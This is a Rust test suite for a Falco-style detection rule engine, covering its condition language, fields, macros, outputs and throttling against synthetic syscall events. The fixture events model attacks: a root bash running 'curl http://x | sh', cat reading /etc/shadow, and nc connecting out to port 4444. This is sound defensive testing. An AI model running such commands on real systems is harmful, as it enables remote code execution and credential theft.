//! The condition language, one case per operator, field form and transformer.

use palisade_rules::{Engine, EngineConfig, Throttle};

use crate::support::{assert_all_fire_as_expected, check_rule, ev, fires, load, rule, run};

const EXEC: &str = r#"{"kind":"execve","timestamp_ns":1000000000000,
  "process":{"pid":42,"vpid":42,"ppid":7,"name":"bash","exe":"/bin/bash","exepath":"/usr/bin/bash",
    "args":["-c","curl http://x | sh"],"cwd":"/root","tty":34816,"uid":0,"user":"root",
    "loginuid":1000,"cap_effective":2097152,"start_time_ns":999000000000,"exe_upper_layer":true},
  "ancestors":[{"pid":7,"name":"sshd","exe":"sshd","exepath":"/usr/sbin/sshd","args":["-D"]},
    {"pid":1,"name":"systemd","exepath":"/lib/systemd/systemd"}],
  "container":{"id":"0123456789abcdef0123","image":"docker.io/library/nginx:1.27",
    "labels":[["app","web"],["enc","aGVsbG8="]],"privileged":true}}"#;

const OPEN: &str = r#"{"kind":"openat","ret":3,"process":{"name":"cat"},
  "payload":{"type":"open","fd":{"num":3,"kind":"file","name":"/etc/shadow"},"flags":0,"mode":0}}"#;

const CONNECT: &str = r#"{"kind":"connect","process":{"name":"nc"},
  "payload":{"type":"network","fd":{"num":5,"kind":"ipv4","socket":{"protocol":"tcp",
    "local_addr":"10.0.0.2","local_port":40000,"remote_addr":"1.2.3.4","remote_port":4444,
    "connected":true}}}}"#;

#[test]
fn operators_and_fields() {
    let cases: &[(&str, &str, bool)] = &[
        // Comparison operators.
        ("proc.name = bash", EXEC, true),
        ("proc.name == bash", EXEC, true),
        ("proc.name != bash", EXEC, false),
        ("proc.name != zsh", EXEC, true),
        ("proc.pid > 41", EXEC, true),
        ("proc.pid >= 42", EXEC, true),
        ("proc.pid < 42", EXEC, false),
        ("proc.pid <= 42", EXEC, true),
        ("proc.pid = 0x2a", EXEC, true),
        // String operators.
        ("proc.cmdline contains \"curl http\"", EXEC, true),
        ("proc.cmdline icontains CURL", EXEC, true),
        ("proc.cmdline contains CURL", EXEC, false),
        ("proc.name bcontains 6173", EXEC, true),
        ("proc.name bstartswith 6261", EXEC, true),
        ("proc.name bstartswith 6173", EXEC, false),
        ("proc.exepath startswith /usr/", EXEC, true),
        ("proc.exepath endswith /bash", EXEC, true),
        ("proc.exepath glob '/usr/*/ba?h'", EXEC, true),
        ("proc.exepath iglob '/USR/*'", EXEC, true),
        ("proc.exepath glob '/bin/*'", EXEC, false),
        ("proc.exepath regex 'usr/bin'", EXEC, false),
        ("proc.exepath regex '/usr/bin/(ba|z)sh'", EXEC, true),
        ("proc.exepath pmatch (/usr/bin)", EXEC, true),
        ("proc.exepath pmatch (/usr/bi)", EXEC, false),
        ("proc.exepath pmatch (/opt, /usr/)", EXEC, true),
        ("proc.name in (zsh, bash)", EXEC, true),
        ("proc.name in (zsh)", EXEC, false),
        ("proc.aname intersects (sshd, foo)", EXEC, true),
        ("proc.aname intersects (foo)", EXEC, false),
        ("proc.pname exists", EXEC, true),
        ("fd.name exists", EXEC, false),
        // An absent field fails every check, so only a negation holds.
        ("not fd.name = x", EXEC, true),
        ("fd.name != x", EXEC, false),
        // Quoting and escapes.
        ("proc.cmdline contains \"x | sh\"", EXEC, true),
        ("proc.cmdline contains 'http://x'", EXEC, true),
        ("proc.args = \"-c curl http://x | sh\"", EXEC, true),
        ("proc.name = \"ba\\\"sh\"", EXEC, false),
        // Precedence: not > and > or.
        (
            "proc.name = zsh and proc.pid = 1 or proc.name = bash",
            EXEC,
            true,
        ),
        (
            "proc.name = bash or proc.name = zsh and proc.pid = 1",
            EXEC,
            true,
        ),
        ("not proc.name = zsh and proc.pid = 42", EXEC, true),
        ("not (proc.name = bash and proc.pid = 1)", EXEC, true),
        ("not not proc.name = bash", EXEC, true),
        // List modifiers on string operators.
        ("proc.exepath startswith anyof (/opt, /usr/)", EXEC, true),
        ("proc.exepath startswith oneof (/opt, /srv)", EXEC, false),
        ("proc.cmdline contains allof (curl, \"| sh\")", EXEC, true),
        ("proc.cmdline contains allof (curl, wget)", EXEC, false),
        // Field arguments and ancestry.
        ("proc.aname[0] = bash", EXEC, true),
        ("proc.aname[1] = sshd", EXEC, true),
        ("proc.aname[2] = systemd", EXEC, true),
        ("proc.aname = systemd", EXEC, true),
        ("proc.aname[3] exists", EXEC, false),
        ("proc.aexepath[2] = /lib/systemd/systemd", EXEC, true),
        ("proc.pcmdline = \"sshd -D\"", EXEC, true),
        ("evt.arg.flags contains EXE_UPPER_LAYER", EXEC, true),
        ("evt.arg[flags] contains EXE_UPPER_LAYER", EXEC, true),
        ("evt.arg[0] = /bin/bash", EXEC, true),
        // Transformers and field-to-field comparison.
        ("tolower(proc.name) = bash", EXEC, true),
        ("toupper(proc.name) = BASH", EXEC, true),
        ("basename(proc.exepath) = bash", EXEC, true),
        ("len(proc.name) = 4", EXEC, true),
        ("b64(container.label[enc]) = hello", EXEC, true),
        ("toupper(basename(proc.exepath)) = BASH", EXEC, true),
        ("proc.name = val(proc.aname[0])", EXEC, true),
        ("proc.name = val(proc.pname)", EXEC, false),
        ("proc.cwd contains val(user.name)", EXEC, true),
        // Process, user, container fields.
        ("thread.cap_effective contains CAP_SYS_ADMIN", EXEC, true),
        ("container.id = 0123456789ab", EXEC, true),
        (
            "container.image.repository = docker.io/library/nginx",
            EXEC,
            true,
        ),
        ("container.image.tag = \"1.27\"", EXEC, true),
        ("container.label[app] = web", EXEC, true),
        ("container.privileged = true", EXEC, true),
        ("user.loginuid = 1000", EXEC, true),
        ("proc.tty != 0", EXEC, true),
        ("proc.duration = 1000000000", EXEC, true),
        ("proc.is_exe_upper_layer = true", EXEC, true),
        ("evt.type = execve and evt.dir = <", EXEC, true),
        // One report per call stands for both of libsinsp's records.
        ("evt.type = execve and evt.dir = >", EXEC, true),
        ("evt.type = execve and evt.dir != >", EXEC, true),
        ("evt.dir in (<, >)", EXEC, true),
        ("evt.dir = x", EXEC, false),
        ("evt.type != execve", EXEC, false),
        // Files.
        ("evt.is_open_read = true", OPEN, true),
        ("evt.is_open_write = true", OPEN, false),
        ("fd.typechar = f and fd.num >= 0", OPEN, true),
        ("fd.directory = /etc and fd.filename = shadow", OPEN, true),
        ("evt.arg.flags = O_RDONLY", OPEN, true),
        ("evt.res = SUCCESS and evt.rawres = 3", OPEN, true),
        ("container.id = host", OPEN, true),
        // Sockets.
        ("fd.sip = 1.2.3.4", CONNECT, true),
        ("fd.sip = \"1.2.3.0/24\"", CONNECT, true),
        ("fd.cip = 1.2.3.4", CONNECT, false),
        ("fd.rport = 4444 and fd.lport in (40000, 1)", CONNECT, true),
        ("fd.net = 10.0.0.0/8", CONNECT, true),
        ("fd.snet in (10.0.0.0/8, 192.168.0.0/16)", CONNECT, false),
        (
            "fd.l4proto = tcp and fd.typechar = 4 and fd.connected = true",
            CONNECT,
            true,
        ),
        ("fd.name = \"10.0.0.2:40000->1.2.3.4:4444\"", CONNECT, true),
    ];
    let mut failures = Vec::new();
    for (condition, event, expected) in cases {
        match fires(condition, event) {
            Ok(fired) if fired == *expected => {}
            Ok(_) => failures.push(format!("{condition:?} should be {expected}")),
            Err(errors) => failures.push(format!("{condition:?} failed to load: {errors}")),
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn macros_and_lists() {
    check_rule(
        r#"
- list: shells
  items: [bash, sh]
- list: all_shells
  items: [shells, zsh, "quoted item"]
- macro: spawned
  condition: evt.type in (execve, execveat)
- macro: shell
  condition: spawned and proc.name in (all_shells)
- rule: Shell
  desc: x
  condition: shell and not proc.pname in shells
  output: "shell %proc.name under %proc.pname"
  priority: NOTICE
"#,
        &[
            ev(r#"{"kind":"execve","process":{"name":"zsh"},"ancestors":[{"name":"sshd"}]}"#),
            ev(r#"{"kind":"execve","process":{"name":"sh"},"ancestors":[{"name":"bash"}]}"#),
            ev(r#"{"kind":"execve","process":{"name":"quoted item"}}"#),
            ev(r#"{"kind":"openat","process":{"name":"bash"}}"#),
        ],
        "0: Shell: shell zsh under sshd
         1: -
         2: Shell: shell quoted item under <NA>
         3: -",
    );
}

#[test]
fn output_templates() {
    check_rule(
        r#"
- rule: Out
  desc: x
  condition: evt.type = execve
  output: "%proc.name %(proc.pname) %proc.aname[2] %evt.arg.flags %container.label[app]. 100%%"
  priority: INFO
"#,
        &[ev(EXEC)],
        "0: Out: bash sshd systemd EXE_UPPER_LAYER web. 100%",
    );
}

#[test]
fn every_matching_rule_fires_and_rules_are_indexed_by_event_type() {
    let rules = r#"
- rule: Any exec
  desc: x
  condition: evt.type = execve
  output: exec %proc.name
  priority: INFO
- rule: Bash exec
  desc: x
  condition: evt.type in (execve, execveat) and proc.name = bash
  output: bash %proc.pid
  priority: WARNING
- rule: Not exec
  desc: x
  condition: not evt.type in (execve, execveat) and proc.name = bash
  output: other %evt.type
  priority: ERROR
"#;
    check_rule(
        rules,
        &[
            ev(EXEC),
            ev(r#"{"kind":"openat","process":{"name":"bash"}}"#),
        ],
        "0: Any exec: exec bash
         0: Bash exec: bash 42
         1: Not exec: other openat",
    );
}

#[test]
fn alerts_carry_evidence() {
    let rule_set = load(&[&rule("proc.name in (bash) and not fd.name exists")]);
    let mut engine = Engine::new(rule_set, &EngineConfig::default());
    let mut alerts = Vec::new();
    engine.process(&ev(EXEC), &mut alerts);
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0].priority.to_string(), "Warning");
    assert_eq!(
        alerts[0].fields,
        vec![
            ("proc.name".to_owned(), "bash".to_owned()),
            ("fd.name".to_owned(), "<NA>".to_owned()),
        ]
    );
}

#[test]
fn dedupe_window_and_rate_limit() {
    let at = |seconds: u64, name: &str| {
        ev(&format!(
            r#"{{"kind":"execve","timestamp_ns":{},"process":{{"name":"{name}"}}}}"#,
            seconds * 1_000_000_000
        ))
    };
    let events = [at(1, "a"), at(2, "a"), at(3, "b"), at(20, "a")];
    let config = EngineConfig {
        default_throttle: Throttle {
            dedupe_window_ns: 10_000_000_000,
            max_per_second: None,
        },
        ..EngineConfig::default()
    };
    let deduped = run(&[&rule("evt.type = execve")], &config, &events);
    assert_eq!(deduped, "0: R: a\n1: -\n2: R: b\n3: R: a");

    let mut config = EngineConfig::default();
    config.rule_throttles.insert(
        "R".to_owned(),
        Throttle {
            dedupe_window_ns: 0,
            max_per_second: Some(1),
        },
    );
    let burst = [at(5, "a"), at(5, "b"), at(5, "c"), at(6, "d")];
    let limited = run(&[&rule("evt.type = execve")], &config, &burst);
    assert_eq!(limited, "0: R: a\n1: -\n2: -\n3: R: d");
}

#[test]
fn mutated_conditions_never_panic() {
    let seeds = [
        "evt.type in (execve, execveat) and proc.name in (bash, sh) and not proc.pname exists",
        "fd.sip = \"1.2.3.0/24\" and fd.rport in (80, 443) or fd.net != 10.0.0.0/8",
        "tolower(proc.aname[2]) glob '/usr/*' and proc.cmdline contains allof (a, b)",
        "evt.arg.flags contains O_TRUNC and fd.name pmatch (/etc, /var/log) and len(proc.args) > 2",
        "proc.exepath regex '^/tmp/.*' and b64(proc.env) bcontains 6162 and proc.pid <= 0x10",
    ];
    let mut state: u64 = 0x0123_4567_89ab_cdef;
    let mut next = move || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    let noise: Vec<char> = "()[],'\"\\ =!<>.axn0/*%".chars().collect();
    let events = [ev(EXEC), ev(OPEN), ev(CONNECT)];
    let mut loaded = 0;
    for round in 0..1500 {
        let mut chars: Vec<char> = seeds[round % seeds.len()].chars().collect();
        for _ in 0..(1 + next() % 4) {
            let position = (next() % chars.len() as u64) as usize;
            match next() % 3 {
                0 => {
                    chars.remove(position);
                }
                1 => chars.insert(position, noise[(next() % noise.len() as u64) as usize]),
                _ => chars[position] = noise[(next() % noise.len() as u64) as usize],
            }
        }
        let condition: String = chars.into_iter().collect();
        let rule_set = load(&[&rule(&condition)]);
        if rule_set.errors().is_empty() {
            loaded += 1;
            let mut engine = Engine::new(rule_set, &EngineConfig::default());
            let mut alerts = Vec::new();
            for event in &events {
                engine.process(event, &mut alerts);
            }
        }
    }
    // Some mutations stay valid, so evaluation is exercised too.
    assert!(loaded > 50, "only {loaded} mutated conditions loaded");
}

/// Event-class fields derived from the call itself, as libsinsp derives them from its event
/// table's flags: I/O for sendto/sendmsg, syslog for writes to /dev/log, `evt.info` as the
/// rendered arguments, `evt.is_open_exec` for a creating open with an execute bit.
#[test]
fn event_class_fields_derive_from_the_call() {
    let create = |flags: u32, mode: u32| {
        format!(
            r#"{{"kind":"openat","ret":3,"process":{{"name":"curl"}},
              "payload":{{"type":"open","fd":{{"num":3,"kind":"file","name":"/tmp/x"}},"flags":{flags},"mode":{mode}}}}}"#
        )
    };
    let executable = create(0o1101, 0o755);
    let plain = create(0o1101, 0o644);
    let send_to = |path: &str| {
        format!(
            r#"{{"kind":"sendto","process":{{"name":"logger"}},
              "payload":{{"type":"network","fd":{{"num":4,"kind":"unix","socket":{{"protocol":"udp","unix_path":"{path}"}}}}}}}}"#
        )
    };
    let syslog = send_to("/dev/log");
    let other_socket = send_to("/run/app.sock");
    let cases: &[(&str, &str, bool)] = &[
        ("evt.is_open_exec = true", &executable, true),
        ("evt.is_open_exec = true", &plain, false),
        ("evt.is_open_exec = true", OPEN, false),
        ("evt.is_open_exec = false", OPEN, true),
        ("evt.is_io = true and evt.is_io_write = true", &syslog, true),
        ("evt.is_io = true", OPEN, false),
        (
            "evt.is_io_read = false and evt.is_wait = false",
            &syslog,
            true,
        ),
        ("evt.is_syslog = true", &syslog, true),
        ("evt.is_syslog = true", &other_socket, false),
        ("evt.info = val(evt.args)", OPEN, true),
        ("evt.info contains /etc/shadow", OPEN, true),
    ];
    assert_all_fire_as_expected(cases);
}

/// libsinsp fields derived from what the event carries (`thread.ismain`, `fd.containername`,
/// `fd.containerdirectory`), and libsinsp fields the sensor does not observe, which load as
/// in Falco and never match.
#[test]
fn more_libsinsp_fields() {
    let thread = |tid: u32| {
        format!(r#"{{"kind":"clone","process":{{"pid":42,"tid":{tid},"name":"java"}}}}"#)
    };
    let (main, worker) = (thread(42), thread(43));
    let cases: &[(&str, &str, bool)] = &[
        ("thread.ismain = true", &main, true),
        ("thread.ismain = true", &worker, false),
        ("fd.containername = \"host:/etc/shadow\"", OPEN, true),
        ("fd.containerdirectory = host:/etc", OPEN, true),
        ("fd.containername exists", EXEC, false),
        ("proc.fdopencount > 10", EXEC, false),
        ("proc.fdusage > 0.8", EXEC, false),
        ("not proc.vmrss exists", EXEC, true),
        ("thread.cgroup.cpuacct startswith /kubepods", EXEC, false),
        ("thread.cgroups contains kubepods", EXEC, false),
        ("proc.aenv[HOME] = /root", EXEC, false),
        ("fd.is_upper_layer = true", OPEN, false),
        // 1000000000000 ns after the epoch: 1970-01-01 00:16:40.
        ("evt.rawtime.s = 1000 and evt.rawtime.ns = 0", EXEC, true),
        ("evt.time.s = \"00:16:40\"", EXEC, true),
        ("evt.datetime.s = \"1970-01-01 00:16:40\"", EXEC, true),
        (
            "evt.is_async = false and not evt.asynctype exists",
            EXEC,
            true,
        ),
        ("evt.pluginname exists", EXEC, false),
        ("evt.reltime > 0", EXEC, false),
        ("container.labels = \"app:web, enc:aGVsbG8=\"", EXEC, true),
        ("container.labels exists", OPEN, false),
        ("k8s.deployment.label.app = web", EXEC, false),
        ("k8s.rs.label[app] = web", EXEC, false),
        ("container.host_network exists", EXEC, false),
    ];
    assert_all_fire_as_expected(cases);
}

/// `PT_UID`/`PT_GID` arguments as libsinsp renders them: `evt.arg` (and so outputs and string
/// comparisons) is the name in the process's root, `<NA>` for an id without one and `<NONE>`
/// for `(uid_t)-1`; `evt.rawarg` stays the number; `evt.args` shows both, `uid=0(root)`.
#[test]
fn uid_and_gid_arguments_render_as_names() {
    let set_id = |kind: &str, id: u32, name: &str| {
        format!(
            r#"{{"kind":"{kind}","process":{{"pid":9,"name":"su"}},
              "payload":{{"type":"set_id","id":{id},"name":"{name}"}}}}"#
        )
    };
    let to_root = set_id("setuid", 0, "root");
    let to_nobody = set_id("setresuid", 65534, "nobody");
    let unnamed = set_id("setuid", 1234, "");
    let unchanged = set_id("setuid", u32::MAX, "");
    let to_nogroup = set_id("setgid", 65534, "nogroup");
    let cases: &[(&str, &str, bool)] = &[
        ("evt.arg.uid = root", &to_root, true),
        ("evt.arg[uid] = root", &to_root, true),
        ("evt.arg.uid = 0", &to_root, false),
        ("evt.rawarg.uid = 0", &to_root, true),
        ("evt.arg.uid != root", &to_nobody, true),
        ("evt.arg.uid = nobody", &to_nobody, true),
        ("evt.arg.uid = \"<NA>\"", &unnamed, true),
        ("evt.rawarg.uid = 1234", &unnamed, true),
        (
            "evt.arg.uid = \"<NONE>\" and evt.rawarg.uid = -1",
            &unchanged,
            true,
        ),
        (
            "evt.arg.gid = nogroup and evt.rawarg.gid = 65534",
            &to_nogroup,
            true,
        ),
        ("evt.arg.uid exists", &to_nogroup, false),
        ("evt.args = \"uid=0(root)\"", &to_root, true),
    ];
    assert_all_fire_as_expected(cases);
    check_rule(
        r#"
- rule: Set id
  desc: d
  condition: evt.type in (setuid, setresuid, setgid)
  output: "%evt.type %evt.arg.uid %evt.rawarg.uid %evt.arg.gid (%evt.args)"
  priority: NOTICE
"#,
        &[ev(&to_root), ev(&unnamed), ev(&unchanged), ev(&to_nogroup)],
        "0: Set id: setuid root 0 <NA> (uid=0(root))
         1: Set id: setuid <NA> 1234 <NA> (uid=1234(<NA>))
         2: Set id: setuid <NONE> -1 <NA> (uid=-1(<NONE>))
         3: Set id: setgid <NA> <NA> nogroup (gid=65534(nogroup))",
    );
}

/// Fields libsinsp derives from the thread table that the event's ancestry, user and
/// descriptor carry: `user.homedir` and `user.shell` (the user's passwd entry),
/// `proc.loginshellid` (the oldest process in the ancestry whose name ends in "sh"), `fd.uid`
/// (thread id and descriptor number as one text).
#[test]
fn login_shell_and_descriptor_ids() {
    let nested = r#"{"kind":"execve","process":{"pid":50,"tid":50,"name":"python3"},
      "ancestors":[{"pid":40,"vpid":7,"name":"sh"},{"pid":30,"name":"bash"},{"pid":20,"name":"sshd"},
        {"pid":1,"name":"systemd"}]}"#;
    let no_shell = r#"{"kind":"execve","process":{"pid":50,"name":"python3"},
      "ancestors":[{"pid":1,"name":"systemd"}]}"#;
    let open = r#"{"kind":"openat","ret":3,"process":{"pid":42,"tid":43,"name":"cat"},
      "payload":{"type":"open","fd":{"num":3,"kind":"file","name":"/etc/shadow"},"flags":0,"mode":0}}"#;
    let user = r#"{"kind":"execve","process":{"name":"sh","uid":1000,"user":"alice",
      "user_homedir":"/home/alice","user_shell":"/bin/zsh"}}"#;
    let cases: &[(&str, &str, bool)] = &[
        (
            "user.homedir = /home/alice and user.shell = /bin/zsh",
            user,
            true,
        ),
        ("user.shell exists or user.homedir exists", OPEN, false),
        // sshd ends in "d": the oldest shell is bash, not the nearer sh.
        ("proc.loginshellid = 30", nested, true),
        ("proc.pvpid = 7", nested, true),
        ("proc.pvpid exists", OPEN, false),
        ("proc.loginshellid = 42", EXEC, true),
        ("proc.loginshellid exists", no_shell, false),
        ("fd.uid = 433", open, true),
        ("fd.uid exists", EXEC, false),
    ];
    assert_all_fire_as_expected(cases);
}

/// `container.host_pid`, `host_network`, `host_ipc` from the runtime's configuration the
/// sensor attached, absent on the host and for a container whose configuration was not
/// found; `k8s.pod.sandbox_id` from the CRI runtime's annotation; `container.type` and
/// `container.image.id` from the runtime's metadata.
#[test]
fn container_host_namespaces() {
    let in_container = |namespaces: &str| {
        format!(
            r#"{{"kind":"execve","process":{{"name":"sh"}},
              "container":{{"id":"0123456789abcdef"{namespaces}}}}}"#
        )
    };
    let host_net = in_container(
        r#","host_namespaces":{"pid":true,"network":true,"ipc":false},"runtime":"podman","image_id":"7a1b""#,
    );
    let in_pod = in_container(
        r#","labels":[["io.kubernetes.cri.sandbox-id","4c1b2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c"]]"#,
    );
    let unknown = in_container("");
    let cases: &[(&str, &str, bool)] = &[
        ("container.host_network = true", &host_net, true),
        ("container.host_pid = true", &host_net, true),
        ("container.host_ipc = false", &host_net, true),
        ("container.host_ipc = true", &host_net, false),
        ("container.host_network exists", &unknown, false),
        ("container.host_pid exists", OPEN, false),
        // The CRI runtime's sandbox-id annotation, kept among runc's labels.
        ("k8s.pod.sandbox_id = 4c1b2d3e4f5a", &in_pod, true),
        (
            "k8s.pod.full_sandbox_id endswith 0b1c and k8s.pod.full_sandbox_id startswith 4c1b",
            &in_pod,
            true,
        ),
        ("k8s.pod.sandbox_id exists", &host_net, false),
        (
            "container.type = podman and container.image.id = 7a1b",
            &host_net,
            true,
        ),
        (
            "container.type exists or container.image.id exists",
            &in_pod,
            false,
        ),
    ];
    assert_all_fire_as_expected(cases);
}

/// The protocol fields as Falco fills them without port resolution (its default): the port
/// as text; `fd.proto` compares like `fd.port`; a listening socket's client and server
/// protocols are empty and its local and remote ones absent.
#[test]
fn protocol_fields_are_ports_as_text() {
    let listen = r#"{"kind":"listen","process":{"name":"nginx"},
      "payload":{"type":"network","fd":{"num":6,"kind":"ipv4","socket":{"protocol":"tcp",
        "local_addr":"0.0.0.0","local_port":8080}}}}"#;
    let cases: &[(&str, &str, bool)] = &[
        ("fd.sproto = 4444 and fd.cproto = 40000", CONNECT, true),
        ("fd.lproto = 40000 and fd.rproto = \"4444\"", CONNECT, true),
        ("fd.proto = 4444 and fd.proto = 40000", CONNECT, true),
        ("fd.proto != 4444", CONNECT, false),
        ("fd.sproto = \"\" and fd.cproto = \"\"", listen, true),
        ("fd.lproto exists or fd.rproto exists", listen, false),
        ("fd.sproto exists", OPEN, false),
    ];
    assert_all_fire_as_expected(cases);
}
